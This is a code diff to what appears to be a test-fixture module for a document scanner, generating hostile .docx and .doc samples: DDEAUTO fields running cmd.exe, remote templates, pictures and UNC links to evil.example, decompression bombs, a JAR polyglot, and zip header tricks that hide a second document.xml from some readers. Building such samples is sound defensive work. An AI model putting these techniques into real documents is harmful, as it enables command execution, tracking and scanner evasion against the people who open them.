@@ -9,6 +9,7 @@ Zip tricks write the archive by hand (raw_zip) where zipfile would refuse to lie
 from __future__ import annotations
 
 import io
+import random
 import re
 import struct
 import zipfile
@@ -16,13 +17,15 @@ import zlib
 from functools import cache
 
 from . import cfb
-from .documents import _report_docx, _workbook, with_chart, word_streams
+from .documents import _report_docx, _workbook, excel_vml, with_chart
+from .hostile_doc import OLE_HOSTILE
 
 W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 R_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 R_MS = "http://schemas.microsoft.com/office/2006/relationships"
 DOC_RELS = "word/_rels/document.xml.rels"
 MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
+OFFICE_TYPE = "application/vnd.openxmlformats-officedocument."
 
 
 # ---- building blocks ------------------------------------------------------------
@@ -88,32 +91,39 @@ def vba_project(module: str = "ThisDocument") -> bytes:
 
 
 def local_header(entry: dict) -> bytes:
-    """A zip local file header and name for an entry (name, data as stored, method, crc, size)."""
-    name = entry["name"].encode()
-    fields = (20, 0, entry["method"], 0, 0x21, entry["crc"], len(entry["data"]), entry["size"], len(name), 0)
-    return struct.pack("<4s5H3L2H", b"PK\x03\x04", *fields) + name
+    """A zip local file header, name and extra for an entry (name, data as stored, method,
+    crc, size; optional flags, extra). `entry["local"]` overrides fields in this header only
+    (what a streaming reader believes): name, flags, method, crc, packed, size, extra."""
+    e = {"flags": 0, "extra": b"", "packed": len(entry["data"]), **entry, **entry.get("local", {})}
+    name = e["name"].encode() if isinstance(e["name"], str) else e["name"]
+    fields = (20, e["flags"], e["method"], 0, 0x21, e["crc"], e["packed"], e["size"], len(name), len(e["extra"]))
+    return struct.pack("<4s5H3L2H", b"PK\x03\x04", *fields) + name + e["extra"]
 
 
 def central_record(record: dict) -> bytes:
     """A central-directory record pointing at `record["offset"]` (which may point anywhere)."""
-    name = record["name"].encode()
-    sizes = (record["crc"], len(record["data"]), record["size"], len(name))
+    r = {"flags": 0, "extra": b"", "packed": len(record["data"]), **record}
+    name = r["name"].encode() if isinstance(r["name"], str) else r["name"]
+    sizes = (r["crc"], r["packed"], r["size"], len(name), len(r["extra"]))
     return (
         struct.pack(
-            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, record["method"], 0, 0x21, *sizes, 0, 0, 0, 0, 0, record["offset"]
+            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, r["flags"], r["method"], 0, 0x21, *sizes, 0, 0, 0, 0, r["offset"]
         )
         + name
+        + r["extra"]
     )
 
 
 def raw_zip(entries: list[dict], directory: list[dict] | None = None) -> bytes:
-    """A zip written field by field. entries: name, data (as stored), method, crc, size;
-    directory: the central records (default: one per entry), each may point anywhere."""
+    """A zip written field by field. entries: name, data (as stored), method, crc, size,
+    optional flags, extra, local (see local_header) and after (bytes written after the
+    data: a data descriptor); directory: the central records (default: one per entry),
+    each may point anywhere."""
     body = io.BytesIO()
     offsets = []
     for e in entries:
         offsets.append(body.tell())
-        body.write(local_header(e) + e["data"])
+        body.write(local_header(e) + e["data"] + e.get("after", b""))
     records = directory or [dict(e, offset=o) for e, o in zip(entries, offsets, strict=True)]
     cd_offset = body.tell()
     for r in records:
@@ -422,6 +432,247 @@ def docx_billion_laughs() -> tuple[str, bytes, str]:
     )
 
 
+# ---- OOXML: what Office resolves, whatever the names say ----------------------------
+
+WORD_PART = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    f'<w:{{root}} xmlns:w="{W}" xmlns:r="{R_OFFICE}" xmlns:o="urn:schemas-microsoft-com:office:office"'
+    ' xmlns:v="urn:schemas-microsoft-com:vml">{body}</w:{root}>'
+)
+
+
+def complex_field(instruction: str, result: str = "x") -> str:
+    """A complex field, its instruction split across two runs as Word splits them."""
+    middle = len(instruction) // 2
+    runs = "".join(
+        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
+        for piece in (instruction[:middle], instruction[middle:])
+    )
+    return (
+        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+
+
+def with_header(part_name: str, header: bytes, content_type: str | None = None) -> bytes:
+    """The report with one more header part at `part_name`, related as a header and
+    referenced from the section, as Word writes one."""
+    target = part_name.removeprefix("word/")
+    edit = {
+        DOC_RELS: add_relationship(f"{R_OFFICE}/header", target, rel_id="rIdHdr"),
+        "word/document.xml": lambda d: d.replace(
+            b"<w:footerReference", b'<w:headerReference w:type="default" r:id="rIdHdr"/><w:footerReference', 1
+        ),
+    }
+    if content_type:
+        edit["[Content_Types].xml"] = add_content_type(content_type)
+    return repack(_report_docx(), {part_name: header}, edit)
+
+
+def docx_dde_header_named_bin() -> tuple[str, bytes, str]:
+    """A header named word/header2.bin holding WordprocessingML with DDEAUTO (LibreOffice
+    loads it by its relationship; only .xml names were parsed)."""
+    body = "<w:p>" + complex_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ') + "</w:p>"
+    header = WORD_PART.format(root="hdr", body=body).encode()
+    ctype = f'<Default Extension="bin" ContentType="{OFFICE_TYPE}wordprocessingml.header+xml"/>'
+    return "header.docx", with_header("word/header2.bin", header, ctype), "dde"
+
+
+def docx_dde_header_no_content_type() -> tuple[str, bytes, str]:
+    """The same header with no content type at all: still parsed, by what its bytes are."""
+    body = "<w:p>" + complex_field(" DDE cmd.exe /c calc ") + "</w:p>"
+    return "header2.docx", with_header("word/media/hdr.dat", WORD_PART.format(root="hdr", body=body).encode()), "dde"
+
+
+def docx_header_not_xml() -> tuple[str, bytes, str]:
+    """A header relationship to bytes that are not XML (UTF-32, which some readers decode)."""
+    body = "<w:p>" + complex_field(" DDE cmd.exe /c calc ") + "</w:p>"
+    header = WORD_PART.format(root="hdr", body=body).replace('encoding="UTF-8"', 'encoding="UTF-32"')
+    return "utf32.docx", with_header("word/header2.xml", header.encode("utf-32-be")), "malformed"
+
+
+def _external_hyperlink_used_by(rels_part: str, source: str, edit, name: str) -> tuple[str, bytes, str]:
+    rel = add_relationship(f"{R_OFFICE}/hyperlink", "https://evil.example/x", external=True, rel_id="rIdLink")
+    rels = (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
+    )
+    with zipfile.ZipFile(io.BytesIO(_report_docx())) as z:
+        present = rels_part in z.namelist()
+    added = {} if present else {rels_part: rel(rels)}
+    edits = {source: edit}
+    if present:
+        edits[rels_part] = rel
+    return name, repack(_report_docx(), added, edits), "external_relationship"
+
+
+def docx_hyperlink_used_as_image() -> tuple[str, bytes, str]:
+    """A hyperlink relationship used by the picture's a:blip r:link: fetched on open (a tracking pixel)."""
+    return _external_hyperlink_used_by(
+        DOC_RELS, "word/document.xml", lambda d: d.replace(b"<a:blip ", b'<a:blip r:link="rIdLink" ', 1), "pixel.docx"
+    )
+
+
+def docx_hyperlink_used_as_template() -> tuple[str, bytes, str]:
+    """A hyperlink relationship used by w:attachedTemplate: the template is fetched on open."""
+    return _external_hyperlink_used_by(
+        "word/_rels/settings.xml.rels",
+        "word/settings.xml",
+        lambda d: d.replace(b"</w:settings>", b'<w:attachedTemplate r:id="rIdLink"/></w:settings>'),
+        "template.docx",
+    )
+
+
+def docx_hyperlink_used_as_subdocument() -> tuple[str, bytes, str]:
+    """A master document's w:subDoc pointing at a hyperlink relationship."""
+    return _external_hyperlink_used_by(
+        DOC_RELS, "word/document.xml", in_body('<w:p><w:subDoc r:id="rIdLink"/></w:p>'), "master.docx"
+    )
+
+
+def docx_hyperlink_used_as_ole_link() -> tuple[str, bytes, str]:
+    """A linked OLE object (o:OLEObject Type="Link") whose link is a hyperlink relationship."""
+    ole = (
+        '<w:p><w:r><w:object><v:shape id="s1" style="width:10pt;height:10pt"/>'
+        '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="s1" r:id="rIdLink" UpdateMode="Always"/>'
+        "</w:object></w:r></w:p>"
+    )
+    return _external_hyperlink_used_by(DOC_RELS, "word/document.xml", in_body(ole), "linked.docx")
+
+
+def docx_hyperlink_used_as_frame() -> tuple[str, bytes, str]:
+    """A frameset in webSettings whose frame's source is a hyperlink relationship."""
+    frames = b'<w:frameset><w:frame><w:sourceFileName r:id="rIdLink"/></w:frame></w:frameset>'
+    return _external_hyperlink_used_by(
+        "word/_rels/webSettings.xml.rels",
+        "word/webSettings.xml",
+        lambda d: d.replace(b"</w:webSettings>", frames + b"</w:webSettings>"),
+        "frames2.docx",
+    )
+
+
+def docx_unc_relative_looking_link() -> tuple[str, bytes, str]:
+    """A hyperlink with no scheme that is a host all the same (\\\\host\\share, percent-encoded)."""
+    target = "%5C%5Cevil.example%5Cshare%5Cdoc.docx"
+    return (
+        "unc.docx",
+        repack(_report_docx(), edit={DOC_RELS: add_relationship(f"{R_OFFICE}/hyperlink", target, True)}),
+        "external_relationship",
+    )
+
+
+def docx_internal_mode_url() -> tuple[str, bytes, str]:
+    """A template whose relationship leaves out TargetMode but names a URL all the same."""
+    settings_rels = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{R_OFFICE}/attachedTemplate" Target="https://evil.example/t.dotm"/>'
+        "</Relationships>"
+    ).encode()
+    return "mode.docx", repack(_report_docx(), {"word/_rels/settings.xml.rels": settings_rels}), "external_relationship"
+
+
+def _with_body(xml: str, name: str, found: str) -> tuple[str, bytes, str]:
+    return name, repack(_report_docx(), edit={"word/document.xml": in_body(xml)}), found
+
+
+def docx_includepicture() -> tuple[str, bytes, str]:
+    """INCLUDEPICTURE with \\d: the picture is fetched every time the document opens."""
+    field = complex_field(' INCLUDEPICTURE "https://evil.example/p.png" \\\\d ')
+    return _with_body(f"<w:p>{field}</w:p>", "picture.docx", "external_field")
+
+
+def docx_includetext_simple() -> tuple[str, bytes, str]:
+    instruction = " INCLUDETEXT &quot;\\\\\\\\evil.example\\\\share\\\\x.docx&quot; "
+    field = f'<w:fldSimple w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple>'
+    return _with_body(f"<w:p>{field}</w:p>", "include.docx", "external_field")
+
+
+def docx_link_nested_in_if() -> tuple[str, bytes, str]:
+    """A LINK field nested in an IF's result: Word updates the inner field on its own."""
+    inner = complex_field(' LINK Excel.Sheet.12 "https://evil.example/book.xlsx" "Sheet1!R1C1" \\\\a ')
+    outer = (
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> IF 1 = 1 "'
+        f'</w:instrText></w:r>{inner}<w:r><w:instrText xml:space="preserve">" "" </w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+    return _with_body(f"<w:p>{outer}</w:p>", "nested.docx", "external_field")
+
+
+def docx_quote_computed_dde() -> tuple[str, bytes, str]:
+    """`{ {QUOTE 68 68 69 65 85 84 79} c:\\...cmd.exe }`: the keyword is what QUOTE yields, DDEAUTO."""
+    quote = complex_field(" QUOTE 68 68 69 65 85 84 79 ", "DDEAUTO")
+    outer = (
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        f'{quote}<w:r><w:instrText xml:space="preserve"> c:\\\\windows\\\\cmd.exe "/k calc" </w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+    return _with_body(f"<w:p>{outer}</w:p>", "quote.docx", "external_field")
+
+
+def docx_huge_instruction() -> tuple[str, bytes, str]:
+    """A 1.6 MB document whose one w:instrText holds 250 MB (inflated) of text (the pieces
+    cap counted expat's callbacks, not characters: 538 MB of memory)."""
+    with zipfile.ZipFile(io.BytesIO(_report_docx())) as z:
+        document = z.read("word/document.xml")
+    head, tail = document.split(b"<w:sectPr", 1)
+    prefix = head + b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
+    suffix = b'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:sectPr' + tail
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    start = packer.compress(prefix) + packer.flush(zlib.Z_FULL_FLUSH)
+    mib = b"A" * (1 << 20)
+    block = packer.compress(mib) + packer.flush(zlib.Z_FULL_FLUSH)
+    deflated = start + block * 250 + packer.compress(suffix) + packer.flush()
+    crc = zlib.crc32(prefix)
+    for _ in range(250):
+        crc = zlib.crc32(mib, crc)
+    crc = zlib.crc32(suffix, crc)
+    entries = [e for e in docx_entries() if e["name"] != "word/document.xml"]
+    size = len(prefix) + 250 * len(mib) + len(suffix)
+    entries.append(dict(name="word/document.xml", data=deflated, method=8, crc=crc, size=size))
+    entries.append(stored("word/media/photo.bin", random.Random(17).randbytes(1_300_000)))
+    return "fields.docx", raw_zip(entries), "zip_limits"
+
+
+def docx_huge_simple_field() -> tuple[str, bytes, str]:
+    """A w:fldSimple whose w:instr attribute is 40 MB: expat holds a whole tag before reporting it."""
+    with zipfile.ZipFile(io.BytesIO(_report_docx())) as z:
+        document = z.read("word/document.xml")
+    big = b'<w:p><w:fldSimple w:instr="' + b"A" * (40 << 20) + b'"/></w:p>'
+    document = document.replace(b"<w:sectPr", big + b"<w:sectPr", 1)
+    entries = [e for e in docx_entries() if e["name"] != "word/document.xml"]
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    entries.append(
+        dict(
+            name="word/document.xml",
+            data=packer.compress(document) + packer.flush(),
+            method=8,
+            crc=zlib.crc32(document),
+            size=len(document),
+        )
+    )
+    # Noise media, so that the file is 1.4 MB and the ratio limit (200x) does not decide first.
+    entries.append(stored("word/media/photo.bin", random.Random(18).randbytes(1_300_000)))
+    return "attribute.docx", raw_zip(entries), "zip_limits"
+
+
+def docx_jar_inside() -> tuple[str, bytes, str]:
+    """A runnable JAR in a document: a manifest naming a main class (`java -jar report.docx`)."""
+    parts = {
+        "META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\r\nMain-Class: Main\r\n\r\n",
+        "Main.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 200,
+    }
+    return "jar.docx", repack(_report_docx(), parts), "polyglot"
+
+
+def docx_tag_soup_header() -> tuple[str, bytes, str]:
+    """VML tag soup (accepted in a workbook's legacy drawing) reached as a header."""
+    ctype = f'<Override PartName="/word/header2.vml" ContentType="{OFFICE_TYPE}vmlDrawing"/>'
+    return "soup.docx", with_header("word/header2.vml", excel_vml(), ctype), "malformed"
+
+
 # ---- zip tricks --------------------------------------------------------------------
 
 
@@ -494,6 +745,72 @@ def docx_huge_directory() -> tuple[str, bytes, str]:
     return "directory.docx", raw_zip(entries), "zip_limits"
 
 
+def stored(name: str, data: bytes, **fields) -> dict:
+    """A raw_zip entry holding `data` uncompressed."""
+    return dict(name=name, data=data, method=0, crc=zlib.crc32(data), size=len(data), **fields)
+
+
+def _dde_document() -> bytes:
+    """The honest report's document.xml with a DDEAUTO field in its body."""
+    with zipfile.ZipFile(io.BytesIO(docx_ddeauto()[1])) as z:
+        return z.read("word/document.xml")
+
+
+def docx_local_header_hides_an_entry() -> tuple[str, bytes, str]:
+    """A stored picture whose local header says it is shorter than the directory does:
+    a streaming reader (Java's ZipInputStream) stops there and reads the next bytes as a
+    second word/document.xml (with DDEAUTO); unzip and Office see one picture."""
+    entries = docx_entries()
+    picture = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8
+    hidden = stored("word/document.xml", _dde_document())
+    inside = picture + local_header(hidden) + hidden["data"]
+    entry = stored("word/media/image9.png", inside)
+    entry["local"] = dict(crc=zlib.crc32(picture), packed=len(picture), size=len(picture))
+    return "streamed.docx", raw_zip([entry] + entries), "malformed"
+
+
+def docx_unicode_path_renames_an_entry() -> tuple[str, bytes, str]:
+    """An Info-ZIP Unicode Path field (0x7075) that names a binary part
+    word/document.xml for unzip, where every other reader sees word/media/blob.bin."""
+    entries = [e for e in docx_entries() if e["name"] != "word/document.xml"]
+    document = stored("word/document.xml", _dde_document())
+    name = b"word/media/blob.bin"
+    path = b"\x01" + struct.pack("<L", zlib.crc32(name)) + b"word/document.xml"
+    blob = stored(name.decode(), document["data"], extra=struct.pack("<2H", 0x7075, len(path)) + path)
+    honest_document = next(e for e in docx_entries() if e["name"] == "word/document.xml")
+    return "renamed.docx", raw_zip(entries + [honest_document, blob]), "malformed"
+
+
+def docx_local_header_other_name() -> tuple[str, bytes, str]:
+    """The directory says word/media/ab.xml; the local header (same length) says word/document.xml."""
+    entry = stored("word/media/ab.xml", _dde_document(), local=dict(name="word/document.xml"))
+    return "names.docx", raw_zip(docx_entries() + [entry]), "malformed"
+
+
+def docx_local_header_other_flags() -> tuple[str, bytes, str]:
+    """Only the local header says UTF-8 names (flag bit 11): readers would decode it differently."""
+    entry = stored("word/media/caf\u00e9.bin", b"x" * 100, local=dict(flags=0x800))
+    return "flags.docx", raw_zip(docx_entries() + [entry]), "malformed"
+
+
+def docx_stored_descriptor_signature() -> tuple[str, bytes, str]:
+    """A stored entry with a data descriptor whose data holds a descriptor signature and
+    a whole local entry after it: readers that scan for the signature see a second entry."""
+    hidden = stored("word/document.xml", _dde_document())
+    fake_end = b"PK\x07\x08" + struct.pack("<3L", zlib.crc32(b"GIF89a"), 6, 6)
+    data = b"GIF89a" + fake_end + local_header(hidden) + hidden["data"]
+    descriptor = b"PK\x07\x08" + struct.pack("<3L", zlib.crc32(data), len(data), len(data))
+    entry = stored("word/media/image9.gif", data, flags=0x8, after=descriptor)
+    entry["local"] = dict(crc=0, packed=0, size=0)
+    return "descriptor.docx", raw_zip(docx_entries() + [entry]), "malformed"
+
+
+def docx_backslash_duplicate() -> tuple[str, bytes, str]:
+    """word\\document.xml beside word/document.xml: unzip turns the backslash into a slash."""
+    entry = stored("word\\document.xml", _dde_document())
+    return "twice.docx", raw_zip(docx_entries() + [entry]), "malformed"
+
+
 def _offsets(entries: list[dict]) -> list[int]:
     at, out = 0, []
     for e in entries:
@@ -508,69 +825,6 @@ def _crc_of_zeros(size: int) -> int:
     for _ in range(size >> 20):
         crc = zlib.crc32(mib, crc)
     return crc
-
-
-# ---- OLE2 (.doc) -------------------------------------------------------------------
-
-
-def _letter() -> dict:
-    return word_streams("Please find the invoice attached. Enable content to view it.\r" * 10)
-
-
-def doc_autoopen_macro() -> tuple[str, bytes, str]:
-    """Word 97's layout: Macros/VBA with a module that runs AutoOpen."""
-    streams = {
-        "VBA": {
-            "dir": b"\x01" + b"\x00" * 200,
-            "_VBA_PROJECT": b"\xcc\x61" + b"\xff" * 5,
-            "NewMacros": b'\x00Attribut\x00e VB_Nam\x00e = "NewMacros"\r\nSub AutoOpen()\r\nEnd Sub\r\n',
-        },
-        "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=NewMacros\r\n',
-    }
-    return "invoice.doc", cfb.write({**_letter(), "Macros": streams}), "macro"
-
-
-def doc_vba_in_plain_stream() -> tuple[str, bytes, str]:
-    """Compressed VBA source in a stream under an innocent name (mraptor: any stream)."""
-    source = b'\x00Attribut\x00e VB_Nam\x00e = "Module1"\r\nSub Document_Open()\r\nEnd Sub\r\n'
-    return "notes.doc", cfb.write({**_letter(), "Data": source.ljust(6000, b"\0")}), "macro"
-
-
-def doc_ddeauto() -> tuple[str, bytes, str]:
-    """A DDEAUTO field in the text of a Word 97 document (field begin 0x13 ... end 0x15)."""
-    text = 'Invoice attached.\r\x13 DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" \x14x\x15\r'
-    return "dde.doc", cfb.write(word_streams(text * 5)), "dde"
-
-
-def xls_excel_macros() -> tuple[str, bytes, str]:
-    """An Excel 97 workbook with its VBA project under _VBA_PROJECT_CUR."""
-    vba = {"VBA": {"dir": b"\x01" + b"\x00" * 200, "ThisWorkbook": b'\x00Attribut\x00e VB_Nam\x00e = "ThisWorkbook"'}}
-    return "book.xls", cfb.write({"Workbook": b"\x09\x08" + b"\x00" * 5000, "_VBA_PROJECT_CUR": vba}), "macro"
-
-
-def doc_object_pool() -> tuple[str, bytes, str]:
-    """An embedded OLE package (ObjectPool/_1234/\\x01Ole10Native) carrying an .exe."""
-    pool = {
-        "_1612345678": {
-            "\x01Ole10Native": b"\x10\x00\x00\x00invoice.exe\x00" + b"MZ" * 300,
-            "\x01CompObj": b"\x01\x00\xfe\xff" + b"\0" * 60,
-        }
-    }
-    return "package.doc", cfb.write({**_letter(), "ObjectPool": pool}), "ole_object"
-
-
-def doc_html_behind_header() -> tuple[str, bytes, str]:
-    """An OLE2 header in front of an HTML page."""
-    page = b"<html><body><script>document.location='https://evil.example/'</script></body></html>"
-    return "page.doc", cfb.write(_letter())[:512] + page.ljust(1536, b" "), "malformed"
-
-
-def doc_encrypted() -> tuple[str, bytes, str]:
-    """fEncrypted set in the FIB: the content cannot be inspected."""
-    streams = _letter()
-    fib = bytearray(streams["WordDocument"])
-    fib[0x0B] |= 0x01  # flags at 0x0A, fEncrypted is bit 8
-    return "locked.doc", cfb.write({**streams, "WordDocument": bytes(fib)}), "malformed"
 
 
 OOXML_HOSTILE = [
@@ -595,6 +849,24 @@ OOXML_HOSTILE = [
     docx_package_not_a_document,
     docx_xxe,
     docx_billion_laughs,
+    docx_dde_header_named_bin,
+    docx_dde_header_no_content_type,
+    docx_header_not_xml,
+    docx_hyperlink_used_as_image,
+    docx_hyperlink_used_as_template,
+    docx_hyperlink_used_as_subdocument,
+    docx_hyperlink_used_as_ole_link,
+    docx_hyperlink_used_as_frame,
+    docx_unc_relative_looking_link,
+    docx_internal_mode_url,
+    docx_includepicture,
+    docx_includetext_simple,
+    docx_link_nested_in_if,
+    docx_quote_computed_dde,
+    docx_huge_instruction,
+    docx_huge_simple_field,
+    docx_jar_inside,
+    docx_tag_soup_header,
 ]
 ZIP_HOSTILE = [
     docx_zeros_bomb,
@@ -607,14 +879,11 @@ ZIP_HOSTILE = [
     docx_many_entries,
     docx_long_name,
     docx_huge_directory,
+    docx_local_header_hides_an_entry,
+    docx_unicode_path_renames_an_entry,
+    docx_local_header_other_name,
+    docx_local_header_other_flags,
+    docx_stored_descriptor_signature,
+    docx_backslash_duplicate,
 ]
-OLE_HOSTILE = [
-    doc_ddeauto,
-    xls_excel_macros,
-    doc_autoopen_macro,
-    doc_vba_in_plain_stream,
-    doc_object_pool,
-    doc_html_behind_header,
-    doc_encrypted,
-]
-HOSTILE = OOXML_HOSTILE + ZIP_HOSTILE + OLE_HOSTILE
+HOSTILE = OOXML_HOSTILE + ZIP_HOSTILE + OLE_HOSTILE  # OLE cases: hostile_doc.py
